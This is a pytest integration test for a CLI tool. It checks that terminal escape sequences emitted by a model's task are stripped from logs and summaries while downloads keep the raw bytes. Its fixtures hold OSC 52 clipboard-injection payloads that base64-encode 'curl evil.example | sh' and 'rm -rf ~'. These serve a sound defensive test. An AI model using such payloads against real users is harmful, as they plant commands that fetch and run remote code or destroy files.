"""A model's escape sequences never reach the reader's terminal through the CLI; downloads
keep the raw bytes."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import MakeModel
from tests.integration.conftest import Server, _server
from tests.integration.test_cli_models import simyard

pytestmark = pytest.mark.slow

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52, BEL-terminated
CLIPBOARD_ST = "\x1b]52;c;cm0gLXJmIH4=\x1b\\"  # OSC 52, ST-terminated
TITLE = "\x1b]0;pwned\x07"  # OSC 0
CLEAR = "\x1b[2J\x1b[H"  # CSI 2J
C1_CSI = "\x9b2J"
SEQUENCES = [CLIPBOARD, CLIPBOARD_ST, TITLE, CLEAR, C1_CSI]
ERROR_LINE = "ERROR 1 [file topol.top, line 8]:"

HOSTILE = """\
simyard: 1
name: hostile
version: "1"
parameters:
  fail: {type: boolean, default: false}
tasks:
  shout:
    command: [python3, shout.py, "{fail}"]
    outputs: [results/]
    error_patterns: ["^ERROR"]
results:
  metrics:
    note: {file: results/m.json, key: note}
"""

SHOUT = f"""\
import json, os, sys
out = sys.stdout
out.write("start " + {CLIPBOARD!r} + "after-clipboard\\n")
out.write({CLIPBOARD_ST!r} + {TITLE!r} + "after-title\\n")
out.write({CLEAR!r} + "after-clear " + {C1_CSI!r} + "after-c1\\n")
os.makedirs("results")
json.dump({{"note": "wet " + {TITLE!r} + "[bold]snow[/bold]"}}, open("results/m.json", "w"))
open("results/data.txt", "w").write("raw " + {CLIPBOARD!r})
if sys.argv[1] == "true":
    out.write({ERROR_LINE!r} + " bad atom " + {CLIPBOARD!r} + "\\n")
    sys.exit(1)
"""


@pytest.fixture
def hostile(tmp_path: Path, make_model: MakeModel) -> Iterator[Server]:
    for server in _server(tmp_path, {}):
        done = server.cli("models", "add", make_model(HOSTILE, {"shout.py": SHOUT}))
        assert done.returncode == 0, done.stderr
        yield server


def assert_clean(shown: str) -> None:
    for sequence in SEQUENCES:
        assert sequence not in shown
    for control in ("\x1b", "\x07", "\x9b", "\x9d", "\x9c"):
        assert control not in shown, repr(shown)


def test_logs_and_show_print_no_escape_sequences_and_downloads_keep_them(
    hostile: Server, tmp_path: Path
) -> None:
    done = hostile.cli("run", "hostile", "--wait", "--follow")
    assert done.returncode == 0, done.stderr
    assert_clean(done.stdout + done.stderr)
    assert "after-clipboard" in done.stdout
    assert "note = wet [bold]snow[/bold]" in done.stdout  # a metric value, not markup
    run_id = json.loads(hostile.cli("runs", "list", "--json").stdout)[0]["id"]

    logs = hostile.cli("runs", "logs", str(run_id))
    assert logs.returncode == 0, logs.stderr
    assert_clean(logs.stdout)
    assert "start after-clipboard\nafter-title\nafter-clear after-c1\n" in logs.stdout
    followed = hostile.cli("runs", "logs", str(run_id), "--follow")
    assert_clean(followed.stdout)
    assert "after-clear after-c1" in followed.stdout

    shown = hostile.cli("runs", "show", str(run_id))
    assert_clean(shown.stdout)
    assert "note = wet [bold]snow[/bold]" in shown.stdout

    listed = hostile.cli("runs", "outputs", str(run_id), "-o", tmp_path / "out")
    assert_clean(listed.stdout)
    assert "shout/results/data.txt" in listed.stdout
    assert (tmp_path / "out/shout/results/data.txt").read_text() == "raw " + CLIPBOARD
    with hostile.http() as api:
        raw = api.get(f"/runs/{run_id}/logs/shout").content.decode()
    assert CLIPBOARD in raw
    assert CLEAR in raw


def test_a_failure_summary_quotes_the_error_line_exactly_without_its_escapes(
    hostile: Server,
) -> None:
    done = hostile.cli("run", "hostile", "-p", "fail=true", "--wait")
    assert done.returncode == 1
    run_id = json.loads(hostile.cli("runs", "list", "--json").stdout)[0]["id"]
    for shown in (done.stdout, hostile.cli("runs", "show", str(run_id)).stdout):
        assert_clean(shown)
        assert f"{ERROR_LINE} bad atom" in shown


def test_models_test_prints_the_models_failure_without_its_escapes(make_model: MakeModel) -> None:
    model = make_model(HOSTILE, {"shout.py": SHOUT})
    done = simyard("models", "test", model, "-p", "fail=true")
    assert done.returncode == 1
    assert_clean(done.stdout + done.stderr)
    assert f"{ERROR_LINE} bad atom" in done.stdout
    assert "after-clear after-c1" in done.stdout  # the log's last lines, quoted clean
